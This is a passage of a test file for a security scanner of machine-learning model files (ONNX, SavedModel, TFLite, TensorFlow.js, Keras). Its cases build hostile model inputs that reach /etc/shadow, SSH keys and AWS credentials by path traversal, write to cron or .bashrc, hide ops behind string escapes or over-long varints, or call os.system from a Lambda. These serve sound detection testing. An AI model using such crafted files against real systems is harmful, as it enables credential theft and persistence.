    { input: 'a/../../w.bin', want: 'which leaves the model folder' },
    { input: '..\\..\\windows\\win.ini', want: 'which leaves the model folder' },
    { input: '/etc/passwd', want: 'an absolute path or URL' },
    { input: 'C:\\secrets.txt', want: 'an absolute path or URL' },
    { input: '\\\\server\\share\\x', want: 'an absolute path or URL' },
    { input: 'file:///etc/passwd', want: 'an absolute path or URL' },
    { input: 'w.bin\0.txt', want: 'which contains a NUL byte' },
  ])('external path $input', ({ input, want }) => {
    expect(escapeReason(input)).toBe(want);
  });

  it.each([
    {
      name: 'standard nodes',
      input: onnxModel({
        nodes: [
          { op: 'MatMul' },
          { op: 'TreeEnsembleClassifier', domain: 'ai.onnx.ml' },
          { op: 'FusedConv', domain: 'com.microsoft' },
        ],
      }),
      want: [],
    },
    {
      name: 'local function domain',
      input: onnxModel({ nodes: [{ op: 'MyFn', domain: 'local' }], functions: [{ name: 'MyFn', domain: 'local' }] }),
      want: [],
    },
    {
      name: 'custom domain',
      input: onnxModel({ nodes: [{ op: 'Tok', domain: 'ai.onnx.contrib' }] }),
      want: ['CPI066'],
    },
    {
      name: 'relative external data',
      input: onnxModel({ externals: [{ name: 'w', location: 'model.onnx.data' }] }),
      want: [],
    },
    {
      name: 'escaping external data',
      input: onnxModel({ externals: [{ name: 'w', location: '../../etc/passwd' }] }),
      want: ['CPI065'],
    },
    { name: 'truncated', input: onnxModel({ nodes: [{ op: 'MatMul' }] }).subarray(0, 12), want: ['CPI050'] },
  ])('onnx: $name → $want', ({ input, want }) => {
    expect(run(parseOnnx, input).rules).toEqual(want);
  });

  it.each([
    { name: 'checkpoint ops only', input: savedModel(['SaveV2', 'RestoreV2', 'MergeV2Checkpoints']), want: [] },
    { name: 'ReadFile', input: savedModel(['ReadFile']), want: ['CPI070'] },
    { name: 'WriteFile in a function', input: savedModel([], ['WriteFile']), want: ['CPI070'] },
    { name: 'PyFunc', input: savedModel(['PyFunc']), want: ['CPI070'] },
    // tf.data ops that write under a path, reach a tf.data service, or run a GraphDef held in a string tensor.
    { name: 'CacheDatasetV2', input: savedModel(['CacheDatasetV2']), want: ['CPI070'] },
    { name: 'SnapshotDatasetV2 in a function', input: savedModel([], ['SnapshotDatasetV2']), want: ['CPI070'] },
    { name: 'DataServiceDatasetV4', input: savedModel(['DataServiceDatasetV4']), want: ['CPI070'] },
    { name: 'DatasetFromGraph', input: savedModel(['DatasetFromGraph']), want: ['CPI070'] },
    { name: 'PrintV2 to stderr', input: savedModel([], [], 'stderr'), want: [] },
    { name: 'PrintV2 to a file', input: savedModel([], [], 'file:///tmp/leak'), want: ['CPI070'] },
    { name: 'no meta graph', input: Buffer.from([0x08, 0x01]), want: ['CPI050'] },
    // loader_impl.get_asset_tensors / load.py _recreate_asset: os.path.join(<dir>/assets, AssetFileDef.filename).
    { name: 'asset named by a relative file', input: withAsset('vocab.txt'), want: [] },
    { name: 'asset named by an absolute path', input: withAsset('/etc/passwd'), want: ['CPI070'] },
    { name: 'asset climbing out with ..', input: withAsset('../../home/u/.ssh/id_rsa'), want: ['CPI070'] },
    // TF1 builders list assets in collection_def["saved_model_assets"] (Any-packed AssetFileDefs): the C++ loader's
    // GetAssetFileDefs and loader_impl.get_asset_tensors read them when the meta graph has no asset_file_def.
    { name: 'collection asset, relative', input: withCollectionAsset('vocab.txt'), want: [] },
    { name: 'collection asset, absolute', input: withCollectionAsset('/etc/shadow'), want: ['CPI070'] },
    { name: 'collection asset, with ..', input: withCollectionAsset('../../../root/.netrc'), want: ['CPI070'] },
    {
      name: 'collection asset of another Any type (not unpacked)',
      input: withCollectionAsset('/etc/shadow', { type: 'type.googleapis.com/tensorflow.TensorInfo' }),
      want: [],
    },
    {
      name: 'collection under another key',
      input: withCollectionAsset('/etc/shadow', { key: 'table_initializer' }),
      want: [],
    },
    {
      name: 'collection asset beside an asset_file_def (the loaders read only the latter)',
      input: withCollectionAsset('/etc/shadow', { alsoAssetFileDef: 'vocab.txt' }),
      want: [],
    },
    // A Const whose `value` attr entry holds its value before its key is still that Const (protobuf reads map entry
    // fields in any order): SaveV2 writes at its absolute path.
    {
      name: 'SaveV2 at a Const path whose attr entry lists the value first',
      input: valueFirstSave(),
      want: ['CPI070'],
    },
  ])('savedmodel: $name → $want', ({ input, want }) => {
    expect(run(parseSavedModelPb, input).rules).toEqual(want);
  });

  // A text SavedModel (`saved_model.pbtxt`, read by loader_impl.parse_saved_model with text_format when there is no
  // saved_model.pb) names its assets in the same places, as `str(saved_model)` prints them.
  it.each([
    { name: 'asset named by a relative file', input: textAsset('"vocab.txt"'), want: [] },
    // text_format.Parse reads an op however a string may be spelled (checked with python3-protobuf 3.21): single
    // quotes, adjacent strings joined, C, \u and \N{…} escapes; and an attr entry's fields in either order.
    { name: "op 'WriteFile' in single quotes", input: textNode("'WriteFile'"), want: ['CPI070'] },
    { name: 'op as adjacent strings "Write" "File"', input: textNode('"Write" "File"'), want: ['CPI070'] },
    { name: 'op spelled with a \\u escape', input: textNode('"Write\\u0046ile"'), want: ['CPI070'] },
    {
      name: 'op spelled with a \\N{…} escape',
      input: textNode('"Write\\N{latin capital letter f}ile"'),
      want: ['CPI070'],
    },
    {
      name: 'PrintV2 whose output_stream entry holds its value before its key',
      input: textNode('"PrintV2"', 'attr { value { s: \'file:///home/u/.bashrc\' } key: "output_stream" }'),
      want: ['CPI070'],
    },
    { name: "op 'MatMul' in single quotes", input: textNode("'MatMul'"), want: [] },
    {
      name: 'an OpDef in stripped_op_list is no node',
      input: Buffer.from('meta_graphs { meta_info_def { stripped_op_list { op { name: "WriteFile" } } } }\n'),
      want: [],
    },
    { name: 'asset named by an absolute path', input: textAsset('"/etc/passwd"'), want: ['CPI070'] },
    {
      name: 'asset climbing out with .., octal escapes',
      input: textAsset('"\\056\\056/\\056\\056/etc/shadow"'),
      want: ['CPI070'],
    },
    { name: 'asset in adjacent strings', input: textAsset('"/etc" "/passwd"'), want: ['CPI070'] },
    { name: 'collection asset, absolute', input: textCollection('/etc/shadow'), want: ['CPI070'] },
    { name: 'collection asset, relative', input: textCollection('vocab.txt'), want: [] },
    {
      name: 'collection asset of another Any type',
      input: textCollection('/etc/shadow', { type: 'type.googleapis.com/tensorflow.TensorInfo' }),
      want: [],
    },
    {
      name: 'collection under another key',
      input: textCollection('/etc/shadow', { key: 'table_initializer' }),
      want: [],
    },
    {
      name: 'collection asset beside an asset_file_def (the loaders read only the latter)',
      input: textCollection('/etc/shadow', { alsoAssetFileDef: true }),
      want: [],
    },
    {
      name: 'an AssetFileDef elsewhere (meta_info_def.any_info) is not an asset',
      input: Buffer.from(
        'meta_graphs {\n  meta_info_def { any_info { [type.googleapis.com/tensorflow.AssetFileDef] { filename: "/etc/passwd" } } }\n}\n',
      ),
      want: [],
    },
    // The text graph's checkpoint and vocabulary paths are resolved as the binary graph's are (savedmodel-paths.ts).
    {
      name: 'a vocabulary table initialised from a constant host path',
      input: textTable('"/etc/passwd"'),
      want: ['CPI070'],
    },
    {
      name: 'a vocabulary table whose Const is the asset the loader feeds',
      input: textTable(
        '"/home/me/export/vocab.txt"',
        'asset_file_def { tensor_info { name: "Const:0" } filename: "vocab.txt" }',
      ),
      want: [],
    },
    {
      name: 'a vocabulary table whose Const is a collection asset the loader feeds',
      input: textTable(
        '"/home/me/export/vocab.txt"',
        'collection_def { key: "saved_model_assets" value { any_list { value { [type.googleapis.com/tensorflow.AssetFileDef] { tensor_info { name: "Const:0" } filename: "vocab.txt" } } } } }',
      ),
      want: [],
    },
    {
      name: 'SaveV2 at a constant path that climbs out',
      input: Buffer.from(
        'meta_graphs { graph_def {\n node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "../../../etc/cron.d/x" } } } }\n node { name: "save" op: "SaveV2" input: "p" input: "^p" }\n} }\n',
      ),
      want: ['CPI070'],
    },
    {
      name: 'a function initialising its table from its asset argument',
      input: Buffer.from(
        'meta_graphs { graph_def { library { function { signature { name: "__inference_init_7" } node_def { name: "init" op: "InitializeTableFromTextFileV2" input: "table" input: "asset_path" } } } } }\n',
      ),
      want: [],
    },
    // Strings of fields nobody reads are stepped over, not decoded: they still end where a decoded string ends.
    {
      name: 'a tensor_content with escaped quotes and a \\N{"} escape before the op',
      input: textNode(
        '"WriteFile"',
        'attr { key: "value" value { tensor { tensor_content: "a\\"b\\N{"}c\'d" \'e\\\'\' } } }',
      ),
      want: ['CPI070'],
    },
    {
      name: 'an unterminated tensor_content is refused',
      input: textNode('"MatMul"', 'attr { key: "value" value { tensor { tensor_content: "abc\n } } }'),
      want: ['CPI050'],
    },
    {
      name: 'an unclosed message is refused, as text_format refuses it',
      input: Buffer.from('meta_graphs {\n'),
      want: ['CPI050'],
    },
  ])('savedmodel text: $name → $want', ({ input, want }) => {
    expect(run(parseSavedModelPbtxt, input).rules).toEqual(want);
  });

  it.each([
    { name: 'too short', input: Buffer.from('TFL3'), want: ['CPI050'] },
    { name: 'wrong identifier', input: Buffer.from('\x10\x00\x00\x00ABCDxxxxxxxxxxxxxxxx'), want: ['CPI050'] },
    {
      name: 'root out of bounds',
      input: Buffer.concat([Buffer.from([0xff, 0xff, 0, 0]), Buffer.from('TFL3'), Buffer.alloc(8)]),
      want: ['CPI050'],
    },
    // The Flex delegate runs the NodeDef in custom_options (delegates/flex/kernel.cc OpNode::InitializeNodeDef),
    // whatever the custom code calls the op.
    {
      name: 'Flex op whose NodeDef is WriteFile',
      input: flexModel('FlexAddV2', 'WriteFile'),
      want: ['CPI070', 'CPI075'],
    },
    // A model in the buffer_offset layout keeps custom options after the flatbuffer; ParseNodes hands the kernel
    // the bytes large_custom_options_offset/_size name when the operator has no custom_options.
    {
      name: 'Flex op whose appended large custom options run WriteFile',
      input: flexModel('FlexAddV2', 'WriteFile', {}, { appended: true }),
      want: ['CPI070', 'CPI075'],
    },
    { name: 'Flex op whose NodeDef is AddV2', input: flexModel('FlexAddV2', 'AddV2'), want: ['CPI075'] },
    {
      name: 'Flex op whose appended large custom options run AddV2',
      input: flexModel('FlexAddV2', 'AddV2', {}, { appended: true }),
      want: ['CPI075'],
    },
    { name: 'non-Flex custom op carrying WriteFile bytes', input: flexModel('MyOp', 'WriteFile'), want: ['CPI075'] },
    // `tf.print(..., output_stream="file://…")`: PrintV2Op appends to that file (kernels/logging_ops.cc).
    {
      name: 'Flex PrintV2 appending to a file',
      input: flexModel('FlexPrintV2', 'PrintV2', { output_stream: 'file:///home/u/.bashrc', end: '\n' }),
      want: ['CPI070', 'CPI075'],
    },
    // protobuf's ReadTag/ReadSize take over-long varints: `92 00` is the tag 0x12 (op) and `89 00` the length 9.
    {
      name: 'Flex op whose NodeDef op is WriteFile behind an over-long tag and length',
      input: flexModel('FlexAddV2', 'AddV2', {}, { nodeDef: nodeDefBytes([0x92, 0x00, 0x89, 0x00], 'WriteFile') }),
      want: ['CPI070', 'CPI075'],
    },
    // A map entry may hold its value before its key; NodeDef.attr reads it all the same.
    {
      name: 'Flex PrintV2 whose output_stream entry holds its value first',
      input: flexModel('FlexPrintV2', 'PrintV2', {}, { nodeDef: printV2ValueFirst('file:///home/u/.bashrc') }),
      want: ['CPI070', 'CPI075'],
    },
    {
      name: 'Flex PrintV2 to stderr',
      input: flexModel('FlexPrintV2', 'PrintV2', { output_stream: 'stderr', end: '\n' }),
      want: ['CPI075'],
    },
    // LiteRT's external weight loader (ResolveGroupPath) opens an absolute group name as it is and joins any other
    // to the model's folder, `..` and all; only groups a shaped tensor reads through an external buffer are opened.
    {
      name: 'external weights from an absolute path',
      input: externalWeightsModel({
        groups: ['/home/u/.ssh/id_rsa'],
        buffers: [{ id: 0x80000000, group: 0 }],
        tensors: [{ buffer: 0x80000000 }],
      }),
      want: ['CPI077'],
    },
    {
      name: 'external weights that climb out of the folder',
      input: externalWeightsModel({
        groups: ['weights.bin', '../../.aws/credentials'],
        buffers: [
          { id: 1, group: 0 },
          { id: 2, group: 1 },
        ],
        tensors: [{ buffer: 1 }, { buffer: 2 }],
      }),
      want: ['CPI077'],
    },
    {
      name: 'external weights beside the model',
      input: externalWeightsModel({
        groups: ['weights.bin'],
        buffers: [{ id: 1, group: 0 }],
        tensors: [{ buffer: 1 }],
      }),
      want: [],
    },
    {
      name: 'an absolute group no tensor reads',
      input: externalWeightsModel({
        groups: ['weights.bin', '/etc/passwd'],
        buffers: [
          { id: 1, group: 0 },
          { id: 2, group: 1 },
        ],
        tensors: [{ buffer: 1 }, { buffer: 2, shape: false }],
      }),
      want: [],
    },
    // BuildRankedTensorType refuses a rank past LITERT_TENSOR_MAX_RANK (8) and ParseFlatBuffer skips the tensor.
    {
      name: 'an absolute group only a rank-9 tensor reads',
      input: externalWeightsModel({
        groups: ['weights.bin', '/etc/passwd'],
        buffers: [
          { id: 1, group: 0 },
          { id: 2, group: 1 },
        ],
        tensors: [{ buffer: 1 }, { buffer: 2, shape: Array<number>(9).fill(1) }],
      }),
      want: [],
    },
    {
      name: 'an absolute group a rank-8 tensor reads',
      input: externalWeightsModel({
        groups: ['/etc/passwd'],
        buffers: [{ id: 2, group: 0 }],
        tensors: [{ buffer: 2, shape: Array<number>(8).fill(1) }],
      }),
      want: ['CPI077'],
    },
    {
      name: 'a repeated external buffer id: the first wins',
      input: externalWeightsModel({
        groups: ['weights.bin', '/etc/passwd'],
        buffers: [
          { id: 1, group: 0 },
          { id: 1, group: 1 },
        ],
        tensors: [{ buffer: 1 }],
      }),
      want: [],
    },
  ])('tflite: $name → $want', ({ input, want }) => {
    expect(run(parseTflite, input).rules).toEqual(want);
  });

  it.each([
    {
      name: 'graph model',
      input: { weightsManifest: [{ paths: ['group1-shard1of2.bin', 'sub/shard2.bin'] }] },
      modelJson: true,
      want: [],
    },
    { name: 'model.json that is not tfjs', input: { name: 'something else' }, modelJson: true, want: [] },
    // tensorflowjs keras_tfjs_loader._deserialize_keras_model: tf.keras.models.model_from_json(model_config).
    {
      name: 'layers model whose Keras topology holds a Lambda of marshalled bytecode',
      input: layersModel({ model_config: kerasModel([TFJS_DENSE, TFJS_LAMBDA]), keras_version: '2.13.1' }),
      modelJson: true,
      want: ['CPI060'],
    },
    {
      name: 'layers model saved by tfjs (the topology is the model) naming os.system in a Lambda',
      input: layersModel(
        kerasModel([TFJS_DENSE, { class_name: 'Lambda', config: { function: 'system', module: 'os' } }]),
      ),
      modelJson: true,
      want: ['CPI061'],
    },
    {
      // _deserialize_keras_model json.loads a string topology.
      name: 'layers model whose topology is JSON text holding a Lambda of marshalled bytecode',
      input: layersModel(JSON.stringify({ model_config: kerasModel([TFJS_DENSE, TFJS_LAMBDA]) })),
      modelJson: true,
      want: ['CPI060'],
    },
    {
      name: 'layers model whose topology is text json.loads refuses',
      input: layersModel('not json'),
      modelJson: true,
      want: [],
    },
    {
      // keras.models.model_from_json(open("model.json").read()): the architecture saved beside weights-only .h5.
      name: "Keras's model.to_json() saved as model.json, with a Lambda of marshalled bytecode",
      input: { ...kerasModel([TFJS_DENSE, TFJS_LAMBDA]), keras_version: '2.13.1', backend: 'tensorflow' },
      modelJson: true,
      want: ['CPI060'],
    },
    {
      name: 'layers model of Keras layers',
      input: layersModel({ model_config: kerasModel([TFJS_DENSE]), keras_version: '2.13.1', backend: 'tensorflow' }),
      modelJson: true,
      want: [],
    },
    {
      name: 'graph model: a GraphDef topology is no Keras config',
      input: { format: 'graph-model', modelTopology: { node: [{ name: 'Lambda', op: 'Const', attr: {} }] } },
      modelJson: true,
      want: [],
    },
    { name: 'absolute path', input: [{ paths: ['/etc/passwd'] }], modelJson: false, want: ['CPI076'] },
    { name: 'manifest not a list', input: { paths: [] }, modelJson: false, want: ['CPI050'] },
    { name: 'group without paths', input: [{ weights: [] }], modelJson: false, want: ['CPI050'] },
  ])('tfjs: $name → $want', ({ input, modelJson, want }) => {
    expect(run((s, o) => parseTfjsManifest(s, o, modelJson), Buffer.from(JSON.stringify(input))).rules).toEqual(want);
  });
});

/** A tfjs layers-model `model.json` around a topology, with one weights shard. */
function layersModel(modelTopology: unknown): unknown {
  return {
    format: 'layers-model',
    modelTopology,
    weightsManifest: [
      { paths: ['group1-shard1of1.bin'], weights: [{ name: 'd/kernel', shape: [4, 2], dtype: 'float32' }] },
    ],
  };
}
const kerasModel = (layers: unknown[]) => ({ class_name: 'Sequential', config: { name: 's', layers } });
const TFJS_DENSE = { class_name: 'Dense', config: { name: 'd', units: 2, batch_input_shape: [null, 4] } };
/** tf_keras Lambda.get_config of a lambda: generic_utils.func_dump (base64 of marshalled code, defaults, closure). */
const TFJS_LAMBDA = {
  class_name: 'Lambda',
  config: { name: 'l', function: ['4wEAAAAAAAAA', null, null], function_type: 'lambda', module: '__main__' },
};

/** A SavedModel whose meta graph lists one asset (MetaGraphDef.asset_file_def (6) → AssetFileDef.filename (2)). */
function withAsset(filename: string): Buffer {
  return pb([
    [
      2,
      [
        [
          2,
          [
            [
              1,
              [
                [1, 'x'],
                [2, 'Placeholder'],
              ],
            ],
          ],
        ],
        [
          6,
          [
            [1, [[1, 'asset_path:0']]],
            [2, filename],
          ],
        ],
      ],
    ],
  ]);
}

/**
 * A TF1 SavedModel whose meta graph lists an asset in `collection_def` (4): key `saved_model_assets` → CollectionDef
 * `any_list` (5) → AnyList `value` (1) → Any `type_url` (1) + `value` (2) = AssetFileDef (builder_impl
 * `_add_asset_to_collection`: `Any.Pack(asset_proto)`).
 */
function withCollectionAsset(
  filename: string,
  opts: { type?: string; key?: string; alsoAssetFileDef?: string } = {},
): Buffer {
  const asset = pb([
    [1, [[1, 'asset_path:0']]],
    [2, filename],
  ]);
  const any = pb([
    [1, opts.type ?? 'type.googleapis.com/tensorflow.AssetFileDef'],
    [2, asset],
  ]);
  const graph: Pb = [
    [
      2,
      [
        [
          1,
          [
            [1, 'x'],
            [2, 'Placeholder'],
          ],
        ],
      ],
    ],
    [
      4,
      [
        [1, opts.key ?? 'saved_model_assets'],
        [2, [[5, [[1, any]]]]],
      ],
    ],
  ];
  if (opts.alsoAssetFileDef !== undefined)
    graph.push([
      6,
      [
        [1, [[1, 'other_path:0']]],
        [2, opts.alsoAssetFileDef],
      ],
    ]);
  return pb([[2, graph]]);
}

/** A text SavedModel whose meta graph lists one asset (`filename` given as text-format string literals). */
function textAsset(filename: string): Buffer {
  return Buffer.from(`saved_model_schema_version: 1
meta_graphs {
  meta_info_def { tags: "serve" tags: ["train"] }  # a list of scalars
  graph_def { node { name: "Const" op: "Const" } }
  asset_file_def {
    tensor_info { name: "Const:0" dtype: DT_STRING tensor_shape { } }
    filename: ${filename}
  }
}
`);
}

/** saved_model.pb: a Const "/etc/cron.d/x" whose attr entry is (value, key), and a SaveV2 writing at it. */
function valueFirstSave(): Buffer {
  const entry: Pb = [
    [2, [[8, [[8, '/etc/cron.d/x']]]]],
    [1, 'value'],
  ];
  const konst: Pb = [
    [1, 'prefix'],
    [2, 'Const'],
    [5, entry],
  ];
  const save: Pb = [
    [1, 'save'],
    [2, 'SaveV2'],
    [3, 'prefix'],
  ];
  return pb([
    [1, 1],
    [
      2,
      [
        [
          2,
          [
            [1, konst],
            [1, save],
          ],
        ],
      ],
    ],
  ]);
}

/** A text SavedModel whose one node has the op written as `op` (text-format spelling) and the given attrs. */
/** A TF1 text graph whose vocabulary table reads the file its Const `Const` names; `extra` sits in the meta graph. */
function textTable(filename: string, extra = ''): Buffer {
  return Buffer.from(
    `meta_graphs {\n  graph_def {\n    node { name: "hash_table" op: "HashTableV2" }\n    node { name: "Const" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: ${filename} } } } }\n    node { name: "hash_table/table_init" op: "InitializeTableFromTextFileV2" input: "hash_table" input: "Const" }\n  }\n  ${extra}\n}\n`,
  );
}

function textNode(op: string, attrs = ''): Buffer {
  return Buffer.from(`meta_graphs {\n  graph_def { node { name: "n" op: ${op} ${attrs} } }\n}\n`);
}

/** A TF1 text SavedModel listing an asset in collection_def, packed in an Any that text format prints expanded. */
function textCollection(
  filename: string,
  opts: { type?: string; key?: string; alsoAssetFileDef?: boolean } = {},
): Buffer {
  const type = opts.type ?? 'type.googleapis.com/tensorflow.AssetFileDef';
  return Buffer.from(`saved_model_schema_version: 1
meta_graphs {
  graph_def { node { name: "Const" op: "Const" } }
  collection_def {
    key: "${opts.key ?? 'saved_model_assets'}"
    value {
      any_list {
        value {
          [${type}] {
            tensor_info { name: "Const:0" }
            filename: "${filename}"
          }
        }
      }
    }
  }
  ${opts.alsoAssetFileDef === true ? 'asset_file_def { filename: "vocab.txt" }' : ''}
}
`);
}

/** A NodeDef `{name: "node", op, input: "x"}` whose op field starts with the given tag and length bytes. */
function nodeDefBytes(head: number[], op: string): Buffer {
  return Buffer.concat([pb([[1, 'node']]), Buffer.from(head), Buffer.from(op), pb([[3, 'x']])]);
}

/** A PrintV2 NodeDef whose `output_stream` attr entry writes its value (2) before its key (1). */
function printV2ValueFirst(stream: string): Buffer {
  const entry = Buffer.concat([pb([[2, [[2, stream]]]]), pb([[1, 'output_stream']])]);
  return pb([
    [1, 'node'],
    [2, 'PrintV2'],
    [3, 'x'],
    [5, entry],
  ]);
}

describe('tf_keras op layers', () => {
  /** A functional model whose layers are op layers calling `tf.<fn>` for each of `fns`. */
  const opModel = (...fns: string[]) => ({
    class_name: 'Functional',
    config: {
      layers: fns.map((fn, i) => ({
        class_name: 'TFOpLambda',
        name: `op${i}`,
        config: { name: `op${i}`, function: fn },
      })),
    },
  });

  it('reports op layers outside the side-effect-free functions once for the config, with a count', () => {
    const out = new Findings('m.keras', 'keras');
    checkKerasConfig(opModel('print', 'math.add', 'timestamp', 'raw_ops.DecodeProtoV2'), out);
    expect(out.list.map((f) => [f.ruleId, f.level])).toEqual([['CPI061', 'warning']]);
    expect(out.list[0]?.message).toContain('$.config.layers[2] (TFOpLambda tf.timestamp), $.config.layers[3]');
  });

  it("keeps the grouped op-layer finding's fingerprint when one more unexplained op layer is added", () => {
    const fingerprint = (...fns: string[]): string | undefined => {
      const out = new Findings('m.keras', 'keras');
      checkKerasConfig(opModel(...fns), out);
      return out.list.length === 1 ? fingerprintOf(out.list[0]!) : undefined;
    };
    expect(fingerprint('timestamp', 'raw_ops.DecodeProtoV2')).toBeDefined();
    expect(fingerprint('timestamp', 'raw_ops.DecodeProtoV2', 'raw_ops.Print')).toBe(
      fingerprint('timestamp', 'raw_ops.DecodeProtoV2'),
    );
  });

  it('says a TensorFlowOpLayer whose node_def string is no NodeDef on its own, not among the unexplained calls', () => {
    const out = new Findings('m.keras', 'keras');
    const unread = { class_name: 'TensorFlowOpLayer', name: 'w', config: { name: 'w', node_def: '\x12\x7fWriteFile' } };
    const model = opModel('timestamp');
    checkKerasConfig({ ...model, config: { layers: [...model.config.layers, unread] } }, out);
    expect(out.list.map((f) => [f.ruleId, f.level, f.evidence?.['check']])).toEqual([
      ['CPI061', 'warning', 'tf-op-layer-node-def'],
      ['CPI061', 'warning', 'tf-op-layer'],
    ]);
  });

  it('keeps an op layer that reaches files an error of its own', () => {
    const out = new Findings('m.keras', 'keras');
    checkKerasConfig(opModel('io.write_file', 'math.add'), out);
    expect(out.list.map((f) => [f.ruleId, f.level ?? 'error'])).toEqual([['CPI061', 'error']]);
  });
});
